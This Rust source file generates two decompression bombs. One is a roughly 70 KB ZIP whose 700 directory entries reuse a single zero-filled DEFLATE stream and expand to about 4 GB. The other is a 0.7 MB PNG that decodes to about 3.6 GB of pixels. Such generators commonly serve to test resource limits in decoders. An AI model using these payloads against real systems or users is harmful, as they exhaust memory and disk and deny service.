//! What is small and becomes large: bytes that are all zero, as DEFLATE writes them.

/// A ZIP of 70 KB, from which 4 GB come: each of its entries is the same.
pub fn zip_bomb() -> Vec<u8> {
    const ENTRIES: u16 = 700;
    const EACH: usize = 258 * 24_000;
    let packed = zeros(EACH);
    let crc = Crc::of_zeros(EACH).to_le_bytes();
    let sizes =
        [packed.len(), EACH].map(|size| u32::try_from(size).unwrap().to_le_bytes()).concat();
    let common = [&[20, 0, 0, 0, 8, 0, 0, 0, 0, 0][..], &crc, &sizes, &[4, 0, 0, 0]].concat();
    let mut zip = [b"PK\x03\x04", &common[..], b"0000", &packed].concat();
    let directory = zip.len();
    for n in 0..ENTRIES {
        zip.extend(
            [b"PK\x01\x02\x14\x00", &common[..], &[0; 14], format!("{n:04}").as_bytes()].concat(),
        );
    }
    let length = u32::try_from(zip.len() - directory).unwrap().to_le_bytes();
    let start = u32::try_from(directory).unwrap().to_le_bytes();
    let count = ENTRIES.to_le_bytes();
    zip.extend([b"PK\x05\x06\0\0\0\0", &count[..], &count, &length, &start, &[0, 0]].concat());
    zip
}

/// A PNG of 30,000 × 30,000 pixels of one bit each: 0.7 MB, and 3.6 GB for whoever paints it.
pub fn huge_picture() -> Vec<u8> {
    const SIDE: u32 = 30_000;
    let rows = 30_000 * (1 + 30_000 / 8);
    let adler = (u32::try_from(rows % 65_521).unwrap() << 16) | 1;
    let data = [&[0x78, 1][..], &zeros(rows), &adler.to_be_bytes()].concat();
    let head = [&SIDE.to_be_bytes()[..], &SIDE.to_be_bytes(), &[1, 0, 0, 0, 0]].concat();
    let mut png = b"\x89PNG\r\n\x1a\n".to_vec();
    for (kind, data) in [(b"IHDR", &head[..]), (b"IDAT", &data), (b"IEND", &[])] {
        let mut crc = Crc::new();
        kind.iter().chain(data).for_each(|byte| crc.push(*byte));
        let length = u32::try_from(data.len()).unwrap();
        png.extend([&length.to_be_bytes()[..], kind, data, &crc.end().to_be_bytes()].concat());
    }
    png
}

/// So many zeros, in one block of fixed codes: a zero, and 258 times the byte before, again and again.
fn zeros(count: usize) -> Vec<u8> {
    let (mut out, mut byte, mut bits) = (Vec::new(), 0_u8, 0);
    // Codes are written from their highest bit on, into bytes that are filled from their lowest.
    let mut put = |code: u16, length: u32| {
        for n in (0..length).rev() {
            byte |= u8::from(code >> n & 1 == 1) << bits;
            bits += 1;
            if bits == 8 {
                out.push(std::mem::take(&mut byte));
                bits = 0;
            }
        }
    };
    put(0b110, 3); // the last block, of fixed codes
    let repeats = (count - 1) / 258;
    for _ in 0..count - repeats * 258 {
        put(0b0011_0000, 8);
    }
    for _ in 0..repeats {
        put(0b1100_0101, 8); // 258 bytes,
        put(0, 5); // of one before
    }
    put(0, 7 + 7); // the end, and what fills its byte
    out
}

/// CRC-32, as ZIP and PNG have it.
struct Crc {
    table: Vec<u32>,
    sum: u32,
}

impl Crc {
    fn new() -> Self {
        let step = |sum: u32| if sum & 1 == 1 { sum >> 1 ^ 0xedb8_8320 } else { sum >> 1 };
        Self { table: (0..256).map(|n| (0..8).fold(n, |sum, _| step(sum))).collect(), sum: !0 }
    }

    fn of_zeros(count: usize) -> u32 {
        let mut crc = Self::new();
        (0..count).for_each(|_| crc.push(0));
        crc.end()
    }

    fn push(&mut self, byte: u8) {
        let [low, ..] = self.sum.to_le_bytes();
        self.sum = self.sum >> 8 ^ self.table[usize::from(low ^ byte)];
    }

    fn end(&self) -> u32 {
        !self.sum
    }
}
